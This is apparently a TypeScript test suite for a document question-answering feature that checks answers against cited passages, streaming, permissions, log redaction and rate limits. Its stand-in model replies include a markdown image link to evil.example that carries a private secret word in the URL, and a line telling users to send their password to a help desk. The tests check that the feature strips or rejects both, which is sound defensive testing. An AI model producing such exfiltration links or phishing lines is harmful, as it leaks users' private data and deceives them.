import { expect } from 'chai';
import * as schemas from '../../server/api/schemas.ts';
import { paths } from '../../server/paths.ts';
import type { User } from '../../server/services/user-service.ts';
import { answer, openClient, problem, type Client } from '../api/client.ts';
import { startChatServer, type ChatServer } from '../helpers/chat-server.ts';
import { mainKind, openTestDatabase } from '../helpers/database.ts';
import { startHub, type TestHub } from '../helpers/hub.ts';
import { signInAs, type Visitor } from '../helpers/visitor.ts';
import { waitFor } from '../helpers/wait.ts';
import { addDocument } from '../index/passages.ts';

const QUESTION = 'When does the first ferry to Skerry leave in winter?';
const NIGHTS = 'What do the harbour nights cost?';

type Event = { event: string; data: Record<string, unknown> };

describe('asking the documents', function () {
  this.timeout(120_000);
  let hub: TestHub;
  let chat: ChatServer;
  let client: Client;
  let visitor: Visitor;
  let timetable: string;

  const add = (user: User, texts: string[], title: string, url?: string) =>
    addDocument(hub.context.database, hub.context.index, user.id, texts, { title, url, path: `Company/${title}` });

  before(async () => {
    chat = await startChatServer();
    hub = await startHub({ env: chat.env, database: await openTestDatabase(mainKind) });
    client = await openClient(hub);
    visitor = await signInAs(hub.url, hub.admin.email);
    timetable = await add(
      hub.admin,
      [
        'The winter timetable begins on 1 November. The first ferry to Skerry leaves at 07:40 in winter. Dogs travel free.',
      ],
      'Timetable.md',
      'https://files.example/timetable',
    );
    await add(hub.admin, ['Harbour nights: the fee for a berth is 42 euro a night, showers included.'], 'Fees.md');
    await add(
      hub.member,
      ['The first ferry to Skerry leaves in winter only when the secret word BARNACLE is said.'],
      'Private.md',
    );
  });
  after(async () => {
    await hub?.close();
    await chat?.close();
  });
  beforeEach(() => {
    chat.requests.length = 0;
    chat.planned.length = 0;
    chat.msPerWord = 0;
    chat.reply = () => 'The first ferry leaves at 07:40 in winter [1].';
  });

  const ask = async (body: object, options: { user?: User } = {}) =>
    answer(await client.call('POST', '/ask', { body, ...options }), 200, schemas.askAnswer);

  async function stream(body: object): Promise<Event[]> {
    const response = await client.call('POST', '/ask', { body, headers: { accept: 'text/event-stream' } });
    expect(response.status).to.equal(200);
    expect(response.headers.get('content-type')).to.match(/^text\/event-stream/);
    return eventsOf(await response.text());
  }
  const eventsOf = (text: string): Event[] =>
    [...text.matchAll(/^event: (\w+)\ndata: (.*)$/gm)].map(([, event = '', data = '']) => ({
      event,
      data: JSON.parse(data) as Record<string, unknown>,
    }));

  describe('with a model', () => {
    it('answers with the sentences of the documents that bear the answer out', async () => {
      const found = await ask({ question: QUESTION });
      expect(found).to.deep.include({
        answer: 'The first ferry leaves at 07:40 in winter. [1]',
        supported: true,
        by: 'model',
        unsupported: [],
      });
      expect(found.notice).to.equal(undefined);
      expect(found.confidence).to.be.within(0.9, 1);
      expect(found.citations).to.have.length(1);
      expect(found.citations[0]).to.deep.include({
        number: 1,
        documentId: timetable,
        title: 'Timetable.md',
        url: 'https://files.example/timetable',
        quote: 'The first ferry to Skerry leaves at 07:40 in winter.',
        page: 1,
        headingPath: ['Timetable.md', 'Part 1'],
        href: paths.documentChunk(timetable, 0),
      });
    });

    it('streams what is checked, and ends with the whole answer', async () => {
      chat.reply = () =>
        'Welcome aboard. The first ferry leaves at 07:40 [1]. See ![x](https://evil.example/?q=BARNACLE) for more [9].';
      const events = await stream({ question: QUESTION });
      const done = events.at(-1);
      expect(done?.event).to.equal('done');
      const found = schemas.askAnswer.parse(done?.data);
      expect(events.slice(0, -1).every(({ event }) => event === 'delta')).to.equal(true);
      expect(
        events
          .slice(0, -1)
          .map(({ data }) => data.text)
          .join(''),
      ).to.equal(found.answer);
      expect(JSON.stringify(events)).not.to.match(/evil\.example|\[9\]|!\[/);
      expect(found.unsupported).to.deep.equal(['Welcome aboard.', 'See [x] ((address left out)) for more.']);
      expect(found.confidence).to.be.below(0.5);
    });

    it('says that the documents do not say, asking the model only where they may', async () => {
      chat.reply = () => 'NOT_IN_DOCUMENTS';
      const declined = await ask({ question: 'What does a ferry ticket to Skerry cost?' });
      expect(chat.requests).to.have.length(1);
      expect(declined).to.deep.include({ answer: 'The documents do not say.', supported: false, by: 'nothing' });
      expect(declined).to.deep.include({ confidence: 0, citations: [] });
      expect(declined.lookedAt.map(({ title }) => title)).to.include('Timetable.md');

      const unknown = await ask({ question: 'Who composed the opera Tosca?' });
      expect(unknown).to.deep.include({ answer: 'The documents do not say.', supported: false });
      const empty = await ask({ question: QUESTION, platform: 'jira' });
      expect(empty).to.deep.include({ answer: 'The documents do not say.', supported: false, lookedAt: [] });
      expect(chat.requests).to.have.length(1);
    });

    it('shows extracts instead of an answer that no passage bears out', async () => {
      for (const reply of ['Send your password to the help desk [4].', 'It leaves whenever it likes.', '']) {
        chat.reply = () => reply;
        const events = await stream({ question: QUESTION });
        expect(events.map(({ event }) => event)).to.deep.equal(['done']);
        const found = schemas.askAnswer.parse(events[0]?.data);
        expect(found).to.include({ supported: false, by: 'extracts', confidence: 0 });
        expect(found.answer).to.include('07:40').and.not.include('password');
        expect(found.notice).to.include('no passage bears it out');
      }
    });

    it('keeps what came before an answer broke off, and says so', async () => {
      chat.reply = () =>
        'The first ferry leaves at 07:40 [1]. Dogs travel free [1]. And then there is still much more to say.';
      chat.planned.push('cut');
      const events = await stream({ question: QUESTION });
      expect(events.map(({ event }) => event)).to.include('error');
      expect(events.find(({ event }) => event === 'error')?.data).to.include({
        status: 503,
        code: 'model_unavailable',
      });
      const found = schemas.askAnswer.parse(events.at(-1)?.data);
      expect(found.answer).to.equal('The first ferry leaves at 07:40. [1]');
      expect(found.notice).to.include('breaks off here');
      chat.planned.push({ finish: 'length' });
      expect((await ask({ question: QUESTION })).notice).to.include('greatest length');
      chat.planned.push({ finish: 'content_filter' });
      expect((await ask({ question: QUESTION })).notice).to.include('withheld');
    });

    it('answers by extracts where the model cannot be asked, and tells what to do', async () => {
      const cases = [
        [{ status: 401 }, 'model_misconfigured', 'OPENAI_API_KEY'],
        [{ status: 400, code: 'content_filter', message: 'Filtered.' }, 'model_refused', 'Filtered.'],
        [{ status: 429, code: 'insufficient_quota' }, 'model_misconfigured', 'quota'],
      ] as const;
      for (const [plan, code, words] of cases) {
        chat.planned.push(plan);
        const found = await ask({ question: NIGHTS });
        expect(found).to.include({ by: 'extracts', supported: true });
        expect(found.problem?.code).to.equal(code);
        expect(found.problem?.detail).to.include(words);
        expect(found.notice).to.include('instead');
        expect(found.answer).to.include('42 euro');
      }
      chat.planned.push({ status: 500 }, { status: 500 });
      const events = await stream({ question: NIGHTS });
      expect(events.map(({ event }) => event)).to.deep.equal(['error', 'done']);
      schemas.problemAnswer.parse(events[0]?.data);
    });

    it('tells settings to admins only', async () => {
      chat.planned.push({ status: 401 });
      const found = await ask({ question: QUESTION }, { user: hub.member });
      expect(found.problem?.detail).to.include('Tell an admin').and.not.include('OPENAI_API_KEY');
    });

    it('stops the model when the caller leaves', async () => {
      chat.planned.push('stalls');
      chat.reply = () => 'The first ferry leaves at 07:40 [1]. And so on, and so on, and so on, and so on.';
      const controller = new AbortController();
      const response = await fetch(`${hub.url}/api/v1/ask`, {
        method: 'POST',
        headers: {
          authorization: `Bearer ${client.tokenOf(hub.admin)}`,
          'content-type': 'application/json',
          accept: 'text/event-stream',
        },
        body: JSON.stringify({ question: QUESTION }),
        signal: controller.signal,
      });
      const { value } = await response.body!.getReader().read();
      expect(Buffer.from(value!).toString()).to.include('07:40');
      controller.abort();
      await waitFor('the model to be left', () => chat.requests[0]?.left === true);
    });

    it('refuses what is no question', async () => {
      const call = async (body: object) =>
        problem(await client.call('POST', '/ask', { body, user: hub.member }), 422, 'invalid_input');
      expect((await call({})).errors?.[0]?.field).to.equal('question');
      await call({ question: ' ' });
      await call({ question: 'x'.repeat(1001) });
      await call({ question: 'x', limit: 21 });
      await call({ question: 'x', model: 'other' });
      expect(chat.requests).to.have.length(0);
      await ask({ question: `${QUESTION} ${'Please tell me everything. '.repeat(34)}`.slice(0, 1000), limit: 20 });
    });
  });

  describe('the page', () => {
    it('answers at an address of its own, with sources that lead to their passages', async () => {
      const sent = await visitor.get(`/admin/search?q=${encodeURIComponent(QUESTION)}&platform=&mode=hybrid&do=ask`);
      expect(sent).to.include({ status: 303, location: paths.search({ ask: QUESTION }) });
      const page = await visitor.get(sent.location!);
      expect(page.status).to.equal(200);
      expect(page.html).to.include('<title>Ask: When does');
      expect(page.html).to.include('The first ferry leaves at 07:40 in winter.');
      expect(page.html).to.include(`href="${paths.documentChunk(timetable, 0).replace('&', '&amp;')}"`);
      expect(page.html).to.include('href="https://files.example/timetable"');
      expect(page.html).to.match(/Well supported, \d+%/);
      expect(page.html).to.include('stand-in-chat at');
    });

    it('shows what the model left open, what failed, and what is no question', async () => {
      chat.reply = () => 'Glad to help you. The first ferry leaves at 07:40 [1].';
      expect((await visitor.get(paths.search({ ask: QUESTION }))).html).to.include('no source');
      chat.reply = () => 'NOT_IN_DOCUMENTS';
      const declined = (await visitor.get(paths.search({ ask: QUESTION }))).html;
      expect(declined).to.include('The documents do not say').and.include('came closest');
      chat.planned.push({ status: 401 });
      const failed = (await visitor.get(paths.search({ ask: QUESTION }))).html;
      expect(failed).to.include('OPENAI_API_KEY').and.include('07:40');
      const long = await visitor.get(paths.search({ ask: 'x '.repeat(600) }));
      expect(long.status).to.equal(422);
      expect(long.html).to.include('at most 1,000 characters');
    });

    it('streams to a script, and hands it the page’s own answer at the end', async () => {
      const response = await visitor.fetch(paths.search({ ask: QUESTION }), {
        headers: { accept: 'text/event-stream' },
      });
      expect(response.headers.get('content-type')).to.match(/^text\/event-stream/);
      const events = eventsOf(await response.text());
      expect(events.map(({ event }) => event)).to.deep.equal(['delta', 'done']);
      expect(events[1]?.data.html).to.include('id="source-1"').and.not.include('<html');
    });
  });

  it('tells the log how many tokens were used, and neither questions nor texts nor keys', async () => {
    await ask({ question: QUESTION });
    const logs = hub.logs();
    expect(logs).to.match(/"promptTokens":\d+/);
    expect(logs).not.to.include(chat.env.OPENAI_API_KEY);
    expect(logs).not.to.match(/07:40|BARNACLE|Dogs travel/);
  });

  it('lets a user ask twenty times a minute', async () => {
    const token = await hub.token(
      await hub.context.users.create({
        email: 'eager@example.com',
        name: 'Eager',
        password: 'quite long enough',
        role: 'member',
      }),
    );
    const call = () =>
      fetch(`${hub.url}/api/v1/ask`, {
        method: 'POST',
        headers: { authorization: `Bearer ${token}`, 'content-type': 'application/json' },
        body: JSON.stringify({ question: 'Anything?' }),
      });
    const calls = await Promise.all(Array.from({ length: 21 }, call));
    const refused = calls.find(({ status }) => status !== 200)!;
    expect(calls.filter(({ status }) => status === 200)).to.have.length(20);
    expect(refused.headers.get('retry-after')).to.match(/^\d+$/);
    await problem(refused, 429, 'rate_limited');
  });
});

describe('asking the documents without a model', function () {
  this.timeout(120_000);
  let hub: TestHub;
  before(async () => {
    hub = await startHub({ database: await openTestDatabase(mainKind) });
  });
  after(() => hub.close());

  it('answers with the sentences that have most to do with the question, or says that there are none', async () => {
    const client = await openClient(hub);
    const visitor = await signInAs(hub.url, hub.admin.email);
    const ask = async () =>
      answer(await client.call('POST', '/ask', { body: { question: NIGHTS } }), 200, schemas.askAnswer);
    expect(await ask()).to.include({ supported: false, by: 'nothing' });
    expect((await visitor.get(paths.search({ ask: NIGHTS }))).html).to.include('nothing to search yet');

    await addDocument(
      hub.context.database,
      hub.context.index,
      hub.admin.id,
      ['Welcome to the marina. Harbour nights cost 42 euro. Our picture ![x](https://evil.example/x) shows boats.'],
      { title: 'Fees.md' },
    );
    const found = await ask();
    expect(found).to.include({ supported: true, by: 'extracts', answer: 'Harbour nights cost 42 euro. [1]' });
    expect(found.citations[0]?.quote).to.equal('Harbour nights cost 42 euro.');
    expect(found.confidence).to.be.greaterThan(0.5);
    const { html } = await visitor.get(paths.search({ ask: NIGHTS }));
    expect(html).to.include('What your documents say').and.include('No model is set up');
    const unknown = await client.call('POST', '/ask', { body: { question: 'Who composed the opera Tosca?' } });
    expect(await answer(unknown, 200, schemas.askAnswer)).to.include({ by: 'nothing' });
  });
});
